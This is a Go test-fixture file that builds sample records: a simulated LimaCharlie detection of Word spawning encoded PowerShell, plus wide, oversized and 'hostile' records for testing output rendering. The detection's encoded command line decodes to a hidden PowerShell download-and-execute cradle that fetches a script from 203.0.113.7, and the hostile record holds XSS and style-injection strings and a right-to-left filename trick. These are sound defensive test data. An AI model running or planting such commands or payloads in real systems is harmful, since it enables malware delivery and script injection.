package output

import (
	"fmt"
	"strings"
)

// lcWindowsDetection is a LimaCharlie-style detection as Fluent Bit decodes it ([]byte strings,
// map[any]any maps): nested detect.event.* and detect.routing.*, a base64-encoded PowerShell
// command line, Windows paths, a list of connections (an array of maps) and lists of tags.
func lcWindowsDetection() Record {
	return Record{
		Tag:  "lc.detections",
		Time: fixedTime,
		Fields: map[string]any{
			"cat":       []byte("Encoded PowerShell Spawned By Office"),
			"source":    []byte("dr-general"),
			"namespace": []byte("general"),
			"priority":  int64(8),
			"detect_id": []byte("c41f9e7a-2b6d-4a0e-9f13-5d8c7b2a1e90"),
			"link":      []byte("https://app.limacharlie.io/orgs/8cbe27f4-bfa1-4afb-ba19-138cd51389cd/sensors/4d1c0b9a-8e7f-4a6b-9c5d-3e2f1a0b9c8d/timeline?time=1795773600&selected=c41f9e7a"),
			"detect_mtd": map[any]any{
				"author":      []byte("soc@corp.example"),
				"description": []byte("An Office application started PowerShell with an encoded command: typical of a malicious macro downloading a second stage."),
				"level":       []byte("high"),
				"references":  []any{[]byte("https://attack.mitre.org/techniques/T1059/001/"), []byte("https://attack.mitre.org/techniques/T1566/001/")},
				"tags":        []any{[]byte("attack.execution"), []byte("attack.t1059.001"), []byte("attack.initial_access")},
			},
			"detect": map[any]any{
				"event": map[any]any{
					"COMMAND_LINE":   []byte(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA7ACAASQBuAHYAbwBrAGUALQBQAGEAeQBsAG8AYQBkACAALQBNAG8AZABlACAAUwB0AGUAYQBsAHQAaAA=`),
					"FILE_PATH":      []byte(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`),
					"FILE_IS_SIGNED": int64(1),
					"HASH":           []byte("de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"),
					"MEMORY_USAGE":   int64(71356416),
					"PROCESS_ID":     int64(7312),
					"THREADS":        int64(14),
					"USER_NAME":      []byte(`CORP\jdoe`),
					"PARENT": map[any]any{
						"COMMAND_LINE": []byte(`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Downloads\Invoice_2026-11_FINAL.docm" /o ""`),
						"FILE_PATH":    []byte(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
						"PROCESS_ID":   int64(5128),
						"USER_NAME":    []byte(`CORP\jdoe`),
					},
					"NETWORK_ACTIVITY": []any{
						map[any]any{"PROTOCOL": []byte("tcp4"), "IS_OUTGOING": true,
							"SOURCE":      map[any]any{"IP_ADDRESS": []byte("10.20.3.47"), "PORT": int64(51544)},
							"DESTINATION": map[any]any{"IP_ADDRESS": []byte("203.0.113.7"), "PORT": int64(80)}},
						map[any]any{"PROTOCOL": []byte("tcp4"), "IS_OUTGOING": true,
							"SOURCE":      map[any]any{"IP_ADDRESS": []byte("10.20.3.47"), "PORT": int64(51547)},
							"DESTINATION": map[any]any{"IP_ADDRESS": []byte("203.0.113.7"), "PORT": int64(443)}},
					},
				},
				"routing": map[any]any{
					"arch":       int64(2),
					"event_id":   []byte("7b3e2f1a-0c9d-4e8b-a7f6-5e4d3c2b1a09"),
					"event_time": uint64(1795773600123),
					"event_type": []byte("NEW_PROCESS"),
					"ext_ip":     []byte("198.51.100.23"),
					"hostname":   []byte("DESKTOP-7Q2K9LM.corp.example"),
					"int_ip":     []byte("10.20.3.47"),
					"moduleid":   int64(2),
					"oid":        []byte("8cbe27f4-bfa1-4afb-ba19-138cd51389cd"),
					"parent":     []byte("a1b2c3d4e5f60718293a4b5c6d7e8f90"),
					"plat":       int64(268435456),
					"sid":        []byte("4d1c0b9a-8e7f-4a6b-9c5d-3e2f1a0b9c8d"),
					"tags":       []any{[]byte("windows"), []byte("finance"), []byte("vip")},
					"this":       []byte("0f9e8d7c6b5a49382716a5b4c3d2e1f0"),
				},
			},
		},
	}
}

// wideRecord has 200 fields: numbers, words, sentences, nested maps and lists.
func wideRecord() Record {
	f := map[string]any{}
	for i := range 200 {
		k := fmt.Sprintf("field_%03d", i)
		switch i % 5 {
		case 0:
			f[k] = int64(i * 1000003)
		case 1:
			f[k] = fmt.Sprintf("value number %d of the wide record", i)
		case 2:
			f[k] = map[string]any{"nestedKeyName": fmt.Sprintf("n%d", i), "count": i}
		case 3:
			f[k] = []any{"a", fmt.Sprint(i), strings.Repeat("long-token-", 4)}
		default:
			f[k] = i%2 == 0
		}
	}
	return Record{Tag: "wide", Time: fixedTime, Fields: f}
}

// bigValueRecord has one value of 200 KB (one unbroken token, the worst case for wrapping).
func bigValueRecord() Record {
	return Record{Tag: "big", Time: fixedTime, Fields: map[string]any{
		"message": "line with a 200 KB blob next",
		"blob":    strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3", 200<<10/40),
	}}
}

// hostileRecord is full of markup, quotes, control characters and right-to-left text.
func hostileRecord() Record {
	return Record{Tag: "t<script>alert(1)</script>", Time: fixedTime, Fields: map[string]any{
		"<script>alert('k')</script>": "<script>alert(\"v\")</script>",
		"quotes":                      `"double" 'single' ` + "`back` &amp; &lt;",
		"rtl":                         "مرحبا بالعالم — שלום עולם",
		"rtl_override":                "invoice\u202Egpj.exe",
		"img":                         `<img src=x onerror="alert(1)">`,
		"comment":                     "<!-- not a comment --> ]]> <![CDATA[x]]>",
		"entity":                      "&#60;b&#62; &lt;b&gt; &nbsp;",
		"zero_width":                  "a\u200bb\u200cc\u200dd\ufeffe",
		"control":                     "nul\x00 bell\a cr\r lf\n tab\t end",
		"html": map[string]any{
			"<b>bold</b>": []any{"<i>x</i>", "</td></tr></table><h1>broken</h1>", nil},
			"style":       `</style><style>body{display:none}</style>`,
		},
		"emoji": "🚨 检测 é",
	}}
}
